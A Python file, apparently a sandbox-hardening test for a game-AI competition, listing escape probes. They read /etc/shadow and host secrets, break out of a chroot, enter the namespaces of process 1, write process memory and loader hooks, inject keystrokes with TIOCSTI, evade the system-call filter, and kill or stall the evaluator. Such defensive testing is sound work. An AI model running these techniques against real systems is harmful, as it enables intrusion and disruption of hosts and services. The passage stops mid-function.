"""What an entry tries once it runs in the sandbox. Copied into an entry's folder: it knows nothing but the standard library.

Each attempt returns what it got, or nothing; whatever it raises means that it was kept from it.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

Attempt = Callable[[], object]
ATTEMPTS: dict[str, Attempt] = {}
TOLD = json.loads((Path(__file__).parent / "told.json").read_text())
"""What an attacker may know of the machine: paths, ports, names."""
libc = ctypes.CDLL(None, use_errno=True)
IS_X86 = platform.machine() == "x86_64"
# Numbers of system calls that are the same on every machine since 2019, and the older ones of x86_64 and of the others.
_NEW = {
    "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fsmount": 432, "pidfd_open": 434,
    "clone3": 435, "pidfd_getfd": 438, "mount_setattr": 442, "landlock_create_ruleset": 444,
}  # fmt: skip
_X86 = {
    "ptrace": 101, "syslog": 103, "pivot_root": 155, "adjtimex": 159, "acct": 163, "mount": 165, "umount2": 166,
    "swapon": 167, "reboot": 169, "sethostname": 170, "iopl": 172, "init_module": 175, "quotactl": 179,
    "clock_settime": 227, "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250, "unshare": 272,
    "name_to_handle_at": 303, "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310, "kcmp": 312,
    "finit_module": 313, "bpf": 321, "userfaultfd": 323, "perf_event_open": 298, "fanotify_init": 300, "modify_ldt": 154,
    "chroot": 161, "mknod": 133, "capset": 126, "personality": 135, "shmget": 29, "shmat": 30, "msgget": 68, "mq_open": 240,
    "vmsplice": 278, "get_mempolicy": 239, "move_pages": 279, "memfd_secret": 447,
}  # fmt: skip
_ARM = {
    "ptrace": 117, "syslog": 116, "pivot_root": 41, "adjtimex": 171, "acct": 89, "mount": 40, "umount2": 39, "swapon": 224,
    "reboot": 142, "sethostname": 161, "init_module": 105, "quotactl": 60, "clock_settime": 112, "kexec_load": 104,
    "add_key": 217, "request_key": 218, "keyctl": 219, "unshare": 97, "name_to_handle_at": 264, "open_by_handle_at": 265,
    "setns": 268, "process_vm_readv": 270, "kcmp": 272, "finit_module": 273, "bpf": 280, "userfaultfd": 282,
    "perf_event_open": 241, "fanotify_init": 262, "chroot": 51, "capset": 91, "personality": 92, "shmget": 194, "shmat": 196,
    "msgget": 186, "mq_open": 180, "vmsplice": 75, "get_mempolicy": 236, "move_pages": 239, "memfd_secret": 447,
}  # fmt: skip
NUMBERS = {**_NEW, **(_X86 if IS_X86 else _ARM)}
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000
MS_REMOUNT, MS_BIND = 32, 4096
MIB = 1 << 20


def attempt(function: Attempt) -> Attempt:
    """Add to the list."""
    ATTEMPTS[function.__name__] = function
    return function


def call(name: str, *arguments: object) -> int:
    """A system call by its name; raises `OSError` where it is refused."""
    libc.syscall.restype = ctypes.c_long
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result = libc.syscall(ctypes.c_long(NUMBERS[name]), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def was_allowed(name: str, *arguments: object) -> str | None:
    """Whether the kernel looked at a call's arguments at all, rather than refuse the call as such."""
    try:
        call(name, *arguments)
    except OSError as error:
        if error.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS):
            return None
        return f"{name} was looked at: {error}"
    return f"{name} was carried out"


# ---- files


@attempt
def read_a_file_of_the_host() -> object:
    return Path(TOLD["secret"]).read_text()


@attempt
def read_the_password_file() -> object:
    return Path("/etc/shadow").read_text()[:20] or Path("/etc/passwd").read_text()[:20]


@attempt
def list_homes() -> object:
    return [name for place in ("/root", "/home") for name in os.listdir(place)]


@attempt
def read_the_repository() -> object:
    return Path(TOLD["repository"], "README.md").read_text()[:20]


@attempt
def read_an_opponent() -> object:
    return Path(TOLD["opponent"]).read_text()


@attempt
def read_through_a_link() -> object:
    return (Path(__file__).parent / "borrowed.txt").read_text()


@attempt
def read_through_a_link_to_a_folder() -> object:
    return os.listdir(Path(__file__).parent / "borrowed")


@attempt
def read_through_the_root_of_process_1() -> object:
    return Path("/proc/1/root" + TOLD["secret"]).read_text()


@attempt
def read_descriptors_of_others() -> object:
    own, opened = str(os.getpid()), []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid != own:
            for fd in set(os.listdir(f"/proc/{pid}/fd")) - {"0", "1", "2"}:  # those three are its own as well
                try:
                    os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK))
                    opened.append(f"{pid}/{fd}")
                except OSError:
                    continue
    return opened


@attempt
def see_processes_of_the_host() -> object:
    there = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    return there if len(there) > 4 else None


@attempt
def climb_out_by_dots() -> object:
    here = os.open("/", os.O_RDONLY)
    for _ in range(20):
        here = os.open("..", os.O_RDONLY, dir_fd=here)
    return "home" in os.listdir(here) or os.stat(TOLD["secret"].lstrip("/"), dir_fd=here)


@attempt
def climb_out_by_an_inherited_folder() -> object:
    for fd in range(3, 64):
        try:
            return os.stat("../../../../../.." + TOLD["secret"], dir_fd=fd)
        except OSError:
            continue
    return None


@attempt
def leave_a_chroot() -> object:
    inner = tempfile.mkdtemp()
    outer = os.open("/", os.O_RDONLY)
    os.chroot(inner)
    os.fchdir(outer)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists(TOLD["secret"])


@attempt
def make_a_device() -> object:
    disk = tempfile.gettempdir() + "/disk"
    os.mknod(disk, 0o600 | 0o060000, os.makedev(*TOLD["disk"]))
    return Path(disk).open("rb").read(16)


@attempt
def open_by_handle() -> object:
    return was_allowed("open_by_handle_at", -100, ctypes.create_string_buffer(64), 0)


@attempt
def write_where_software_lies() -> object:
    return [place for place in ("/usr", "/", "/dev", os.path.dirname(os.__file__), sys.prefix) if _can_write(place)]


@attempt
def write_into_its_own_folder() -> object:
    return [place for place in (str(Path(__file__).parent), str(Path(__file__).parents[1])) if _can_write(place)]


@attempt
def write_into_numba_caches() -> object:
    return [place for place in TOLD["caches"] if _can_write(place)]


@attempt
def write_into_proc() -> object:
    places = (
        "/proc/sys/kernel/hostname",
        "/proc/sysrq-trigger",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/kernel/core_pattern",
    )
    return [place for place in places if os.access(place, os.W_OK) and _opens_for_writing(place)]


def _can_write(place: str) -> bool:
    try:
        (Path(place) / "written-by-an-entry").write_text("x")
    except OSError:
        return False
    return True


def _opens_for_writing(place: str) -> bool:
    try:
        os.close(os.open(place, os.O_WRONLY))
    except OSError:
        return False
    return True


@attempt
def overwrite_a_program_of_the_host() -> object:
    for program in ("/proc/1/exe", "/proc/self/exe"):
        try:
            return os.open(program, os.O_RDWR)
        except OSError:
            continue
    return None


@attempt
def read_memory_of_the_kernel() -> object:
    for place in (
        "/proc/kcore",
        "/proc/kmsg",
        "/dev/mem",
        "/dev/kmem",
        "/dev/kmsg",
        "/sys/kernel/debug",
        "/proc/vmallocinfo",
    ):
        try:
            return f"{place}: {os.read(os.open(place, os.O_RDONLY | os.O_NONBLOCK), 16)!r}"
        except OSError:
            continue
    with Path("/proc/kallsyms").open() as symbols:
        return [line for line, _ in zip(symbols, range(50), strict=False) if int(line.split()[0], 16)]


@attempt
def change_its_cgroup() -> object:
    places = [
        Path("/sys/fs/cgroup"),
        *(
            Path(line.split()[4])
            for line in Path("/proc/self/mountinfo").read_text().splitlines()
            if " - cgroup" in line
        ),
    ]
    return [str(file) for place in places for file in place.rglob("*") if file.is_file() and os.access(file, os.W_OK)]


@attempt
def see_what_tools_left_in_its_folder() -> object:
    """Nobody counts these files, so nobody may read them: they could be changed while a run waits."""
    root = Path(__file__).parents[1]
    return [str(file) for name in ("build", "runs", "__pycache__", ".git") for file in root.glob(f"**/{name}/*")]


@attempt
def write_where_tools_leave_things() -> object:
    root = Path(__file__).parents[1]
    return [
        str(place)
        for name in ("build", "runs", "__pycache__")
        for place in root.glob(f"**/{name}")
        if _can_write(str(place))
    ]


@attempt
def find_the_seed_in_the_environment() -> object:
    told = [
        Path("/proc/self/environ").read_text(),
        Path("/proc/self/cmdline").read_text(),
        Path("/proc/1/cmdline").read_text(),
    ]
    return [word for text in told for word in text.split("\0") if "seed" in word.lower() or TOLD["token"] in word]


# ---- mounts and namespaces


@attempt
def mount_a_file_system() -> object:
    return was_allowed("mount", b"none", b"/tmp", b"tmpfs", 0, None)


@attempt
def remount_software_writable() -> object:
    for place in (b"/usr", b"/", sys.prefix.encode(), str(Path(__file__).parent).encode()):
        seen = was_allowed("mount", None, place, None, MS_REMOUNT | MS_BIND, None)
        if seen:
            return seen
    return None


@attempt
def unmount() -> object:
    return was_allowed("umount2", b"/proc", 2) or was_allowed("umount2", b"/tmp", 2)


@attempt
def change_the_root() -> object:
    return was_allowed("pivot_root", b"/tmp", b"/tmp")


@attempt
def mount_by_the_new_calls() -> object:
    return (
        was_allowed("fsopen", b"tmpfs", 0)
        or was_allowed("open_tree", -100, b"/", 1)
        or was_allowed("mount_setattr", -100, b"/usr", 0, ctypes.create_string_buffer(32), 32)
    )


@attempt
def enter_namespaces_of_process_1() -> object:
    for kind in ("mnt", "net", "user", "pid", "ipc"):
        os_fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        seen = was_allowed("setns", os_fd, 0)
        if seen:
            return seen
    return None


@attempt
def make_a_user_namespace() -> object:
    if os.fork() == 0:
        os._exit(0 if libc.unshare(CLONE_NEWUSER) == 0 else 1)
    return os.wait()[1] == 0


@attempt
def make_a_user_namespace_by_clone3() -> object:
    arguments = struct.pack("8Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = call("clone3", ctypes.create_string_buffer(arguments), 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "made"


@attempt
def make_other_namespaces() -> object:
    for flag in (CLONE_NEWNS, CLONE_NEWNET, 0x20000000, 0x08000000, 0x04000000):
        if libc.unshare(flag) == 0:
            return hex(flag)
    return None


@attempt
def start_a_sandbox_in_the_sandbox() -> object:
    done = subprocess.run(["bwrap", "--unshare-user", "--ro-bind", "/", "/", "true"], capture_output=True)
    return done.returncode == 0


# ---- rights


@attempt
def hold_capabilities() -> object:
    status = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return [f"{name} {status[name]}" for name in ("CapInh", "CapPrm", "CapEff", "CapAmb") if int(status[name], 16)]


@attempt
def gain_capabilities_by_a_program() -> object:
    status = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return "no_new_privs is not set" if status["NoNewPrivs"].strip() != "1" else None


@attempt
def become_root() -> object:
    if os.getuid() == 0 and os.stat("/proc/self").st_uid == 0 and os.access("/proc/1/mem", os.W_OK):
        return "is root"
    os.setuid(0)
    return "became root"


@attempt
def run_a_setuid_program() -> object:
    for program in ("/usr/bin/su", "/bin/su", "/usr/bin/newgrp", "/usr/bin/passwd", "/usr/bin/mount"):
        if os.path.exists(program) and os.stat(program).st_mode & 0o4000:
            process = subprocess.Popen([program], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            try:
                users = Path(f"/proc/{process.pid}/status").read_text().split("Uid:")[1].split()[:4]
            finally:
                process.kill()
                process.wait()
            if len(set(users)) > 1:
                return f"{program} ran as {users}"
    return None


@attempt
def lower_the_score_for_lack_of_memory() -> object:
    score = Path("/proc/self/oom_score_adj")
    before = int(score.read_text())
    score.write_text("0")
    return f"{before} -> {score.read_text().strip()}" if int(score.read_text()) < before else None


@attempt
def raise_limits() -> object:
    raised = []
    for kind in (
        resource.RLIMIT_AS,
        resource.RLIMIT_NPROC,
        resource.RLIMIT_FSIZE,
        resource.RLIMIT_NOFILE,
        resource.RLIMIT_CPU,
    ):
        soft, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY:
            raised.append(f"{kind} is infinite")
            continue
        try:
            resource.setrlimit(kind, (soft, hard * 2))
            raised.append(str(kind))
        except (OSError, ValueError):
            continue
    return raised


@attempt
def raise_its_priority() -> object:
    try:
        os.nice(-5)
        return "nicer"
    except OSError:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
        return "real time"


# ---- network


@attempt
def connect_to_the_host() -> object:
    return socket.create_connection(("127.0.0.1", TOLD["port"]), 0.5)


@attempt
def connect_to_the_world() -> object:
    return socket.create_connection(("1.1.1.1", 53), 0.5)


@attempt
def connect_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + TOLD["abstract"])
        return "connected"


@attempt
def open_a_vsock() -> object:
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attempt
def open_raw_sockets() -> object:
    for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind, 1)
            return f"{family} {kind}"
        except OSError:
            continue
    return None


@attempt
def open_odd_families() -> object:
    opened = []
    for family in (
        15,
        16,
        21,
        29,
        30,
        31,
        38,
        39,
        40,
        41,
        42,
        44,
    ):  # key, netlink, rds, can, tipc, bluetooth, alg, nfc, ...
        try:
            socket.socket(family, socket.SOCK_SEQPACKET if family in (38, 30) else socket.SOCK_DGRAM)
            opened.append(family)
        except OSError:
            continue
    return opened


@attempt
def find_network_interfaces() -> object:
    return [name for _, name in socket.if_nameindex() if name != "lo"]


# ---- the kernel's odd corners


@attempt
def leave_a_key_in_a_keyring() -> object:
    return was_allowed("add_key", b"user", b"airhockey-attack", b"x", 1, -3)


@attempt
def read_a_key_of_the_host() -> object:
    return was_allowed("keyctl", 11, TOLD["key"], ctypes.create_string_buffer(64), 64)


@attempt
def use_io_uring() -> object:
    return was_allowed("io_uring_setup", 1, ctypes.create_string_buffer(120))


@attempt
def trace_processes() -> object:
    return was_allowed("ptrace", 16, 1, 0, 0) or was_allowed("ptrace", 0, 0, 0, 0)


@attempt
def read_memory_of_process_1() -> object:
    return was_allowed("process_vm_readv", 1, None, 0, None, 0, 0)


@attempt
def steal_a_descriptor() -> object:
    return was_allowed("pidfd_getfd", 0, 0, 0)


@attempt
def use_bpf() -> object:
    return was_allowed("bpf", 0, ctypes.create_string_buffer(72), 72)


@attempt
def use_userfaultfd() -> object:
    return was_allowed("userfaultfd", 0) or was_allowed("userfaultfd", 1)


@attempt
def use_perf_events() -> object:
    return was_allowed(
        "perf_event_open", ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + bytes(96)), 0, -1, -1, 0
    )


@attempt
def load_a_module() -> object:
    return was_allowed("finit_module", -1, b"", 0) or was_allowed("init_module", None, 0, b"")


@attempt
def load_a_kernel() -> object:
    return was_allowed("kexec_load", 0, 0, None, 0)


@attempt
def read_the_kernels_log() -> object:
    return was_allowed("syslog", 3, ctypes.create_string_buffer(100), 100)


@attempt
def set_clocks_and_names() -> object:
    return was_allowed("clock_settime", 0, None) or was_allowed("sethostname", b"x", 1) or was_allowed("acct", None)


@attempt
def administer_disks() -> object:
    return was_allowed("swapon", b"/tmp/x", 0) or was_allowed("quotactl", 0, None, 0, None)


@attempt
def watch_all_files() -> object:
    return was_allowed("fanotify_init", 0, 0)


@attempt
def change_segments() -> object:
    if not IS_X86:
        return None
    return was_allowed("modify_ldt", 0, ctypes.create_string_buffer(16), 16) or was_allowed("iopl", 3)


@attempt
def use_calls_of_another_machine() -> object:
    """The x32 numbers of x86_64 pass a filter that only knows the usual ones."""
    if not IS_X86:
        return None
    libc.syscall.restype = ctypes.c_long
    if libc.syscall(ctypes.c_long(0x40000000 | NUMBERS["ptrace"]), 16, 1, 0, 0) >= 0:
        return "traced"
    return None if ctypes.get_errno() in (errno.ENOSYS, errno.EPERM) else os.strerror(ctypes.get_errno())


@attempt
def push_input_into_the_terminal() -> object:
    for fd in (0, 1, 2):
        try:
            fcntl.ioctl(fd, 0x5412, b"x")
            return f"descriptor {fd}"
        except OSError:
            continue
    return os.open("/dev/tty", os.O_RDWR)


# ---- the evaluator


@attempt
def signal_everybody() -> object:
    reached = []
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), TOLD["evaluator"], -1):
            try:
                os.kill(pid, number)
            except OSError:
                continue
            if pid == TOLD["evaluator"]:
                reached.append(pid)
    return reached


@attempt
def shrink_the_shared_memory() -> object:
    for fd in range(3, 64):
        try:
            if "memfd" in os.readlink(f"/proc/self/fd/{fd}"):
                os.ftruncate(fd, 0)
                return fd
        except OSError:
            continue
    with Path("/proc/self/maps").open() as maps:
        ranges = [line.split()[0] for line in maps if "memfd:airhockey" in line]
    for one in ranges:
        fd = os.open(f"/proc/self/map_files/{one}", os.O_RDWR)
        os.ftruncate(fd, 0)
        return one
    return None


@attempt
def see_the_evaluators_environment() -> object:
    return [name for name in os.environ if name in TOLD["environment"]] or (
        TOLD["token"] in Path("/proc/1/environ").read_text() or None
    )


@attempt
def write_memory_of_process_1() -> object:
    with Path("/proc/1/mem").open("r+b", buffering=0) as memory:
        memory.seek(int(Path("/proc/1/maps").read_text().split("-")[0], 16))
        return memory.read(1)


# ---- what an outsider thinks of next


@attempt
def run_a_program_from_memory() -> object:
    number = 319 if IS_X86 else 279
    fd = int(libc.syscall(ctypes.c_long(number), b"x", 0))
    if fd < 0:
        return None
    os.write(fd, Path("/bin/true").read_bytes())
    return subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd], check=True)


@attempt
def find_descriptors_that_were_left_open() -> object:
    """Only the standard ones, pipes to the evaluator and what lies in the sandbox may be open."""
    known = (
        "/dev/null",
        "pipe:[",
        "/memfd:airhockey",
        "anon_inode:",
        "/proc/",
        "/usr/",
        "/submission",
        "/tmp",
        sys.prefix,
    )
    found = {
        fd: os.readlink(f"/proc/self/fd/{fd}")
        for fd in os.listdir("/proc/self/fd")
        if os.path.islink(f"/proc/self/fd/{fd}")
    }
    return [where for where in found.values() if not where.startswith(known)]


@attempt
def read_hardware_and_kernel_by_sysfs() -> object:
    return [
        name
        for place in ("/sys/kernel", "/sys/class/net", "/sys/firmware", "/sys/fs/cgroup")
        for name in os.listdir(place)
    ]


@attempt
def reach_the_host_by_sockets_in_the_file_system() -> object:
    got = []
    for path in (
        "/run/dbus/system_bus_socket",
        "/var/run/docker.sock",
        "/run/systemd/private",
        "/dev/log",
        "/run/containerd/containerd.sock",
        "/tmp/.X11-unix/X0",
    ):
        with socket.socket(socket.AF_UNIX) as one:
            try:
                one.connect(path)
            except OSError:
                continue
            got.append(path)
    return got


@attempt
def fill_the_pipe_of_requests() -> object:
    """A pipe can be opened again from `/proc` the other way round; who then asks for something waits for room in it."""
    frame = sys._getframe()
    while "nonce" not in frame.f_locals:
        frame = frame.f_back
    names = frame.f_locals
    again = os.open(f"/proc/self/fd/{names['requests']}", os.O_WRONLY | os.O_NONBLOCK)
    try:
        while os.write(again, bytes(4096)):
            pass
    except BlockingIOError:
        os.write(names["replies"], b"K" + names["nonce"])
    time.sleep(100_000)
    return None


@attempt
def keep_the_evaluator_waiting_by_signals_of_its_pipes() -> object:
    """A descriptor's owner gets SIGIO: the owner may be anybody whom one may signal."""
    F_SETOWN, F_SETSIG, O_ASYNC = 8, 10, 0o20000
    for fd in range(3, 64):
        try:
            fcntl.fcntl(fd, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(fd, F_SETOWN, TOLD["evaluator"])
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | O_ASYNC)
        except OSError:
            continue
        return fd
    return None


@attempt
def grow_the_pipes() -> object:
    F_SETPIPE_SZ = 1031
    grown = []
    for _ in range(200):
        try:
            grown.append(os.pipe())
            fcntl.fcntl(grown[-1][0], F_SETPIPE_SZ, 64 * MIB)
        except OSError:
            break
    total = sum(fcntl.fcntl(reader, 1032) for reader, _ in grown)
    for pair in grown:
        os.close(pair[0])
        os.close(pair[1])
    return _too_much(total, TOLD["memory"])


@attempt
def dump_core() -> object:
    """A kernel that hands dumps to a program of the host's does so whatever the limit, but for a limit of one byte."""
    hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
    return f"cores of up to {hard} bytes" if hard > 1 else None


@attempt
def leave_the_session() -> object:
    os.setsid()
    fd = os.open("/dev/ptmx", os.O_RDWR)
    fcntl.ioctl(fd, 0x40045431, struct.pack("i", 0))
    name = os.ttyname(
        os.open(f"/dev/pts/{struct.unpack('i', fcntl.ioctl(fd, 0x80045430, bytes(4)))[0]}", os.O_RDWR | os.O_NOCTTY)
    )
    return name if Path(name).stat().st_dev == os.stat("/dev").st_dev else None


@attempt
def type_into_a_terminal_of_its_own() -> object:
    """TIOCSTI with bits set above those that the kernel reads."""
    fd = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    libc.ioctl.argtypes = None
    for request in (0x5412, 0x5412 | 1 << 32, 0x5412 | 0xFFFFFFFF << 32, 0x541C):
        if (
            libc.syscall(
                ctypes.c_long(16 if IS_X86 else 29),
                ctypes.c_long(fd),
                ctypes.c_long(ctypes.c_long(request).value),
                b"x",
            )
            == 0
        ):
            return hex(request)
    return None


@attempt
def write_hooks_for_other_processes() -> object:
    hooks = (
        "/etc/ld.so.preload", "/etc/ld.so.cache", "/usr/lib/python3/sitecustomize.py", "/proc/sys/kernel/modprobe",
        "/proc/sys/fs/binfmt_misc/register", f"{sys.prefix}/lib/sitecustomize.py",
    )  # fmt: skip
    return [place for place in hooks if _can_write(place)]


@attempt
def replace_a_mounted_folder() -> object:
    for place in ("/submission", "/tmp", "/dev/shm", sys.prefix):
        try:
            os.rename(place, place + "-gone")
            return place
        except OSError:
            continue
    return None


@attempt
def run_a_setuid_file_of_its_own() -> object:
    path = Path(tempfile.gettempdir(), "sh")
    path.write_bytes(Path("/bin/cat").read_bytes())
    path.chmod(0o6755)
    status = Path("/proc/self/mountinfo").read_text()
    (options,) = {line.split()[5] for line in status.splitlines() if line.split()[4] == tempfile.gettempdir()}
    return None if "nosuid" in options else options


@attempt
def set_file_capabilities() -> object:
    path = Path(tempfile.gettempdir(), "program")
    path.write_bytes(b"")
    os.setxattr(path, "security.capability", struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
    return "set"


@attempt
def send_a_descriptor_to_a_child_that_outlives_it() -> object:
    one, other = socket.socketpair()
    socket.send_fds(one, [b"x"], [os.open("/", os.O_RDONLY)])
    _, got, _, _ = socket.recv_fds(other, 1, 1)
    os.fchdir(got[0])
    return [name for name in os.listdir("../..") if name not in os.listdir("/")]


@attempt
def watch_files_of_the_host() -> object:
    number = (254, 255) if IS_X86 else (27, 27)
    fd = libc.inotify_init()
    return libc.inotify_add_watch(fd, TOLD["secret"].encode(), 0x3B) >= 0 or number is None


@attempt
def lock_files_that_others_need() -> object:
    """A run's folder is locked while it is written: who could lock it would stop the run."""
    held = []
    for path in (TOLD["opponent"], TOLD["secret"], TOLD["repository"] + "/pyproject.toml"):
        try:
            fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue
        held.append(path)
    return held


@attempt
def see_where_things_lie_on_the_host() -> object:
    return [
        line
        for line in Path("/proc/self/mountinfo").read_text().splitlines()
        if TOLD["secret"].rsplit("/", 1)[0] in line and "/entry" not in line
    ]


@attempt
def find_what_the_organiser_typed() -> object:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        line = Path(f"/proc/{pid}/cmdline").read_bytes()
        if b"drive.py" in line or b"--seed" in line:
            found.append(line)
    return found


@attempt
def read_the_stack_and_the_system_calls_of_process_1() -> object:
    return [
        Path(f"/proc/1/{name}").read_text()
        for name in ("stack", "syscall", "auxv")
        if "running" not in Path(f"/proc/1/{name}").read_text()
    ]


@attempt
def change_the_scheduling_of_others() -> object:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "real time"


@attempt
def lock_memory() -> object:
    kept = mmap.mmap(-1, 512 * MIB)
    if libc.mlock(ctypes.byref(ctypes.c_char.from_buffer(kept)), 512 * MIB) == 0:
        return "512 MiB"
    return None


@attempt
def make_a_timer_of_the_host() -> object:
    number = 222 if IS_X86 else 107  # timer_create with CLOCK_REALTIME_ALARM wakes a sleeping machine
    fd = ctypes.c_int()
    return libc.syscall(ctypes.c_long(number), 8, None, ctypes.byref(fd)) == 0


@attempt
def freeze_file_systems() -> object:
    fd = os.open("/usr", os.O_RDONLY)
    return fcntl.ioctl(fd, 0xC0045877, 0) == 0  # FIFREEZE


@attempt
def change_flags_of_files_of_the_host() -> object:
    fd = os.open("/usr/bin/env", os.O_RDONLY)
    return fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x10)) == 0  # FS_IOC_SETFLAGS, immutable


@attempt
def clone_a_block_device() -> object:
    return [
        path.name
        for path in Path("/dev").iterdir()
        if path.is_block_device()
        or path.name
        in ("kvm", "fuse", "net", "mem", "nvidia0", "nvidiactl", "dri", "input", "snd", "vhost-net", "uinput")
    ]


@attempt
def open_processes_by_descriptors() -> object:
    """A pidfd of process 1 or of the evaluator takes signals, and may be waited for."""
    got = []
    for pid in (1, TOLD["evaluator"]):
        try:
            fd = call("pidfd_open", pid, 0)
            signal.pidfd_send_signal(fd, signal.SIGSTOP)
        except OSError:
            continue
        got.append(pid)
    return [pid for pid in got if pid != 1]


@attempt
def keep_the_first_process_busy() -> object:
    """Its zombies must be cleared away, or numbers run out."""
    for _ in range(400):
        try:
            if os.fork() == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
            os.wait()
        except OSError:
            break
    time.sleep(0.3)
    zombies = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            zombies += Path(f"/proc/{pid}/stat").read_text().rpartition(") ")[2].startswith("Z")
        except OSError:
            continue
    return f"{zombies} zombies" if zombies > TOLD["processes"] else None


@attempt
def make_namespaces_by_clone() -> object:
    """The older call, with each flag, alone and with others, and bits above those that the kernel reads."""
    number, made = 56 if IS_X86 else 220, []
    for flag in (CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, 0x20000000, 0x08000000, 0x04000000, 0x02000000):
        for more in (0, CLONE_NEWUSER, 0x00010000, 1 << 32):
            pid = libc.syscall(*map(ctypes.c_long, (number, flag | more | signal.SIGCHLD, 0, 0, 0, 0)))
            if pid == 0:
                os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
                made.append(hex(flag | more))
    return made


@attempt
def make_namespaces_by_clone3() -> object:
    made = []
    for flag in (CLONE_NEWNS, CLONE_NEWNET, 0x80, 0x02000000, 0x200000000):  # of time, of cgroups, into a cgroup
        try:
            pid = call(
                "clone3", ctypes.create_string_buffer(struct.pack("11Q", flag, *[0] * 3, signal.SIGCHLD, *[0] * 6)), 88
            )
        except OSError:
            continue
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        made.append(hex(flag))
    return made


@attempt
def write_memory_of_others_by_vectors() -> object:
    number, there = (311 if IS_X86 else 271), ctypes.create_string_buffer(b"x" * 8)
    vector = struct.pack("PP", ctypes.addressof(there), 8)
    for pid in (os.getpid(), os.getppid(), 1):
        if libc.syscall(ctypes.c_long(number), ctypes.c_long(pid), vector, 1, vector, 1, 0) >= 0:
            return f"into {pid}"
    return None


@attempt
def look_at_process_1_in_every_way() -> object:
    got = []
    for name in ("cwd", "exe", "root", "environ", "mem", "pagemap", "map_files", "personality", "io", "timers"):
        try:
            found = os.readlink(f"/proc/1/{name}") if name in ("cwd", "exe", "root") else ""
            found = found or (os.listdir if name == "map_files" else lambda path: Path(path).read_bytes()[:80])(
                f"/proc/1/{name}"
            )
        except OSError:
            continue
        if (
            TOLD["token"] in str(found)
            or str(Path(TOLD["secret"]).parent) in str(found)
            or name in ("mem", "pagemap", "map_files")
        ):
            got.append(f"{name}: {found!r}")
    return got


@attempt
def take_another_personality() -> object:
    """Memory that can be written and run, or laid out as everybody knows."""
    taken = []
    for persona in (0x0400000, 0x0040000, 0x0100000, 0x4000000, 0x0200000):
        if libc.personality(ctypes.c_ulong(persona)) >= 0 and libc.personality(ctypes.c_ulong(0xFFFFFFFF)) & persona:
            taken.append(hex(persona))
    return taken


@attempt
def change_how_a_terminal_speaks() -> object:
    """A line discipline is code of the kernel's, loaded for whoever asks."""
    fd = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    got = []
    for discipline in (1, 2, 3, 5, 13, 15, 17, 20, 21, 23, 25, 27, 29):
        try:
            fcntl.ioctl(fd, 0x5423, struct.pack("i", discipline))
            got.append(discipline)
        except OSError:
            continue
    return got


@attempt
def speak_to_the_kernel_by_netlink() -> object:
    for kind in range(23):
        try:
            return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, kind).getsockname()
        except OSError:
            continue
    return None


@attempt
def change_the_network_by_ioctl() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for request in (0x8914, 0x8916, 0x8946, 0x89A0, 0x89F0):  # flags, addresses, ethtool, bridges
            try:
                return hex(request), fcntl.ioctl(one, request, b"lo".ljust(40, b"\0"))
            except OSError:
                continue
    return None


@attempt
def become_other_users_and_groups() -> object:
    became = []
    for function, wanted in (
        (os.setuid, 0),
        (os.setgid, 0),
        (os.setuid, 1),
        (os.setgid, 1),
        (os.seteuid, 0),
        (os.setegid, 0),
    ):
        try:
            function(wanted)
            became.append(f"{function.__name__} {wanted}")
        except OSError:
            continue
    try:
        os.setgroups([0])
        became.append("group of root")
    except OSError:
        pass
    return became


@attempt
def talk_to_the_host_by_files_in_shared_memory() -> object:
